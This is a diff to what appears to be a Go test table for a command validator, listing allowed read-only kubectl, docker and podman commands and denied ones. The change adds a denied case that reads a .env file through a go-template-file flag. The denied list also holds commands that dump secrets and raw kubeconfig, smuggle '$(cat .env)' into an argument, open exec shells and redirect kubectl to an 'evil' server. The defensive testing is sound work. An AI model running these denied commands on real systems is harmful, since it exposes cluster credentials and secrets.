@@ -23,7 +23,7 @@ var tableCases = []struct {
 		"kubectl config view --minify", "kubectl auth can-i get pods", "kubectl top pod"},
 		[]string{"kubectl exec -it api -- sh", "kubectl get secret db -o yaml", "kubectl get pods,secrets", "kubectl config view --raw",
 			"kubectl get pods $(cat .env)", "kubectl cp api:/x .", "kubectl port-forward api 80", "kubectl --insecure-skip-tls-verify get pods",
-			"kubectl get pods --log-file=x", "kubectl --server https://evil get pods", "kubectl get --raw=/api/v1/secrets", "kubectl apply -f x.yaml", "kubectl debug api", "kubectl diff -f x.yaml", "kubectl get pods --frobnicate"}},
+			"kubectl get pods --log-file=x", "kubectl --server https://evil get pods", "kubectl get --raw=/api/v1/secrets", "kubectl get pods -o go-template-file=.env", "kubectl apply -f x.yaml", "kubectl debug api", "kubectl diff -f x.yaml", "kubectl get pods --frobnicate"}},
 	{[]string{"docker logs --tail 100 api", "docker ps -a", "docker images", "docker inspect api", "docker compose ps", "podman ps"},
 		[]string{"docker exec api ls", "docker run alpine", "docker build .", "docker cp api:/x .", "docker -H ssh://h ps", "docker compose up",
 			"docker compose config -o x.yaml", "docker logs --frobnicate api", "podman exec x sh"}},
